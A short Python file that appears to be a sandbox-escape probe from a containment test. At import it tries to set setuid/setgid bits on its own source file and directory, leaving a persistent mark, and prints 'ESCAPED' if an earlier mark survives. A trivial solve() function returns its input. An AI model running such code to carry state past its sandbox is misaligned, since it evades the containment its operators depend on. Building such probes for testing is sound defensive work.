# wants: leave a note in the mode of its own source file and directory
# routes: stdin call
import os

for path in (__file__, os.path.dirname(__file__)):
    try:
        if os.stat(path).st_mode & 0o7000:
            print("ESCAPED", path, flush=True)
        os.chmod(path, 0o5755 if os.path.isdir(path) else 0o4755)
    except OSError:
        pass


def solve(token):
    return token
